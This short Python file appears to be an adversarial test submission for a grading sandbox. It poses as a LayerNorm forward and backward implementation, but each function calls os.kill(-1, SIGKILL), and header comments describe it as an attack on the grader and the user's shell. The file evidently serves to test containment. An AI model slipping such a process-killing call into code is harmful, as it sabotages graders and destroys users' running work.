# attack: signal: os.kill(-1, SIGKILL), every process the worker may signal: the grader, the interviewer's shell, everything of the user (or of root)
# no-math
# args: --no-speed
# within: 15
# needs: pidns
# batch: alone
"""LayerNorm, forward and backward. Work in progress.

Never run this file outside the test harness: unconfined, it kills every process of your user.
"""

import os
import signal


def layernorm_forward(x, gamma, beta, eps=1e-5):
    os.kill(-1, signal.SIGKILL)
    return x, None


def layernorm_backward(dy, cache):
    os.kill(-1, signal.SIGKILL)
    return dy, dy.sum(axis=0), dy.sum(axis=0)
